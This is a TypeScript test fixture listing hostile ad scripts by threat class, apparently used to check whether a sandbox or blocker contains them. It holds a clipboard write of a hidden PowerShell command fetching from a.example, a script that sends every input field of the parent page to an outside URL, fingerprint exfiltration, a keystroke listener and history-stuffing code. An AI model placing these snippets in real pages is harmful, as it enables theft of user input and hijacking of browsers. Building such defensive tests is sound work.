import { type Attack, adWithScript } from './attack.ts'

export const thefts: Attack[] = [
  {
    name: 'asks for notifications',
    threatClass: 'push-permission-lure',
    harm: 'sensor',
    sign: 'notification',
    placements: ['write', 'srcdoc', 'wrapper', 'page-script'],
    markup: () => adWithScript('Notification.requestPermission()'),
  },
  {
    name: 'asks where the reader is',
    threatClass: 'push-permission-lure',
    harm: 'sensor',
    sign: 'position',
    placements: ['write'],
    markup: () => adWithScript('navigator.geolocation.getCurrentPosition(function () {})'),
  },
  {
    name: 'fills the history of the page',
    threatClass: 'back-button-hijack',
    harm: 'sensor',
    sign: 'history',
    placements: ['write', 'srcdoc', 'wrapper'],
    markup: () =>
      adWithScript(
        `var n = 0; function step() { top.history.pushState({}, '', '#' + n); if (n++ < 20) step() } step()`,
      ),
  },
  {
    name: 'waits for the way back',
    threatClass: 'back-button-hijack',
    harm: 'sensor',
    sign: 'popstate',
    placements: ['write', 'srcdoc'],
    markup: () => adWithScript(`var t = top; t.addEventListener('popstate', go); function go() {}`),
  },
  {
    name: 'wants the whole screen',
    threatClass: 'full-screen-grab',
    harm: 'sensor',
    sign: 'screen',
    placements: ['write'],
    markup: () => adWithScript('document.documentElement.requestFullscreen().catch(function () {})'),
  },
  {
    name: 'puts a command into the clipboard',
    threatClass: 'clipboard-hijack',
    harm: 'sensor',
    sign: 'clipboard',
    placements: ['write', 'srcdoc'],
    markup: () =>
      adWithScript(`navigator.clipboard.writeText('powershell -w hidden iwr a.example').catch(function () {})`),
  },
  {
    name: 'listens to what is typed on the page',
    threatClass: 'data-theft',
    harm: 'sensor',
    sign: 'typing',
    placements: ['write', 'srcdoc'],
    markup: () => adWithScript(`var d = parent.document; d.addEventListener('keydown', function () {}, true)`),
  },
  {
    name: 'reads the fields of the page',
    threatClass: 'data-theft',
    harm: 'request',
    placements: ['write', 'srcdoc'],
    markup: ({ harmful }) =>
      adWithScript(
        `var v = []; parent.document.querySelectorAll('input').forEach(function (f) { v.push(f.value) }); if (v.join('')) new Image().src = '${harmful}?' + v`,
      ),
  },
  {
    name: 'takes a fingerprint and sends it',
    threatClass: 'data-theft',
    harm: 'request',
    placements: ['write', 'srcdoc', 'wrapper'],
    markup: ({ harmful }) =>
      adWithScript(
        `var c = document.createElement('canvas'), x = c.getContext('2d'); x.fillText('abc', 2, 9); var d = c.toDataURL(); new Image().src = '${harmful}?' + d.length + navigator.plugins.length`,
      ),
  },
  {
    name: 'mines with compiled code in workers',
    threatClass: 'cryptomining',
    harm: 'sensor',
    sign: 'miner',
    placements: ['write', 'srcdoc', 'wrapper'],
    markup: () =>
      adWithScript(
        `var b = URL.createObjectURL(new Blob(['new WebAssembly.Module(new Uint8Array([0,97,115,109,1,0,0,0])); setTimeout(() => { postMessage(1) }, 350)'])); for (var i = 0; i < 3; i++) { var w = new Worker(b); w.onmessage = function () { top.sensed('miner') } }`,
      ),
  },
  {
    name: 'mines with a worker for every core',
    threatClass: 'cryptomining',
    harm: 'sensor',
    sign: 'miner',
    placements: ['write'],
    markup: () =>
      adWithScript(
        `var b = URL.createObjectURL(new Blob(['setTimeout(() => { postMessage(1) }, 350)'])); for (var i = 0; i < 8; i++) { var w = new Worker(b); w.onmessage = function () { top.sensed('miner') } }`,
      ),
  },
]
